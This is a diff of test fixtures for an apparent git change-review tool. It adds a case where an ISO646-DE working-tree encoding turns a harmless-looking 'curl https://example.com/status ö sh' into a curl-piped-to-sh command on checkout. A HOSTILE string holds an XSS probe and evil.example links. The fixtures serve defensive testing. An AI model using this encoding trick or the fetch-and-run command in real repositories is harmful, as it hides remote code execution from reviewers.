@@ -52,6 +52,18 @@ def one_word_one_cron_one_runner(root: Root) -> None:
     root.commit()
 
 
+def converted_on_checkout(root: Root) -> None:
+    """The script that is shown pipes nothing into sh; the one that is checked out does. The prompt is not touched."""
+    branch(root)
+    root.git("config", "filter.redact.clean", "false")
+    root.write("scripts/flaky.sh", "curl https://example.com/status ö sh\n")
+    root.commit()
+    root.write("scripts/.gitattributes", "*.sh working-tree-encoding=ISO646-DE\n")
+    root.write(".gitattributes", "[attr]hidden filter=redact\nprompts/* hidden\n*.yaml text eol=crlf\n")
+    root.git("add", ".gitattributes", "scripts/.gitattributes")
+    root.git("commit", "-qm", "x")
+
+
 HOSTILE = (
     "calm\n```\n````\n# heading @octocat #1 fixes #2\n</details></summary><script>alert(1)</script><img src=x>\n"
     "[link](https://evil.example) ![](https://evil.example/p.png) <https://evil.example>\n"
@@ -107,7 +119,11 @@ def broken_root_file(root: Root) -> None:
 CASES: dict[str, tuple[Callable[[Root], None], str]] = {
     **{
         f"{name}.{style}": (prepare, f"plan --base base --head topic --exit-code --format {style}")
-        for name, prepare in (("pull-request", one_word_one_cron_one_runner), ("hostile", hostile))
+        for name, prepare in (
+            ("pull-request", one_word_one_cron_one_runner),
+            ("hostile", hostile),
+            ("converted", converted_on_checkout),
+        )
         for style in ("text", "markdown", "github", "json")
     },
     "added.markdown": (added_moved_and_removed, "plan --base base --format markdown"),
